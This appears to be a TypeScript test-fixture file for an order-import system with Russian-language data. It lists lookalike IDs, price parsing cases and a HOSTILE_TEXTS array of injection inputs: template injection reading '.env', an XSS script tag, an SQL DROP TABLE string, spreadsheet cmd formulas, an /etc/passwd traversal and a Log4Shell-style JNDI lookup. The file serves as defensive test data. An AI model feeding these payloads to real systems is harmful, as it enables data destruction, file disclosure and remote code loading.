/** Ids as JSON writes them, group by group; within a group a careless comparison would take them for one. */
export const IDS_ALIKE: ReadonlyArray<readonly [string, readonly string[]]> = [
  ['2^53 and 2^53 + 1 as numbers', ['9007199254740992', '9007199254740993']],
  ['7 and "007"', ['7', '"007"']],
  ['7, 7.0 and "7e0"', ['7', '7.0', '"7e0"']],
  ['capital and small letters', ['"ЗАКАЗ-1"', '"заказ-1"', '"Заказ-1"']],
  ['ё and е', ['"чёрный"', '"черный"']],
  ['й in one sign and in two', ['"\u0439"', '"\u0438\u0306"']],
  ['Latin and Cyrillic А', ['"A-1"', '"А-1"']],
  ['spaces before and after', ['"sp"', '"sp "', '" sp"', '"sp\u00a0"', '"sp  "']],
  ['a soft hyphen and a zero-width space', ['"hy-phen"', '"hy\u00ad-phen"', '"hy\u200b-phen"']],
  ['emoji', ['"🔧"', '"🔩"', '"🔧🏻"', '"🔧🔧"']],
  ['accents and sharp s', ['"resume"', '"resumé"', '"strasse"', '"straße"']],
];

/** Prices as JSON writes them, and the amounts that they are. */
export const EXACT_PRICES: ReadonlyArray<readonly [json: string, amount: string]> = [
  ['"0.1"', '0.10'],
  ['0.1', '0.10'],
  ['0.2', '0.20'],
  ['0.07', '0.07'],
  ['1.15', '1.15'],
  ['4.35', '4.35'],
  ['1e2', '100.00'],
  ['"3450"', '3450.00'],
  ['45035996273704.95', '45035996273704.95'],
];

/** Prices as JSON writes them that are no amount of roubles and kopecks. */
export const IMPOSSIBLE_PRICES = ['1.005', '"1.005"', '1e400', '-5', '90071992547409.92', '"1 000"'];

/** What somebody writes into a field who hopes that it is run, rendered or opened. */
export const HOSTILE_TEXTS = [
  '{{7*7}}',
  '{% include ".env" %}',
  '{{ order.order_id | append: "x" }}',
  '<script>alert(1)</script>',
  `'; DROP TABLE external_orders; -- "`,
  `=cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  '../../etc/passwd',
  '${jndi:ldap://x/a}',
  '\u202eсправа налево',
  'a\\b\nc\td\r\n',
  '😀 👨‍👩‍👧 \u00ad\u200b',
];

/** Text of ASCII and Russian letters (without Ё and ё) in windows-1251. */
export function windows1251(text: string): Buffer<ArrayBuffer> {
  return Buffer.from(
    [...text].map((letter) => (letter < '\u0080' ? letter.charCodeAt(0) : letter.charCodeAt(0) - 0x350)),
  );
}
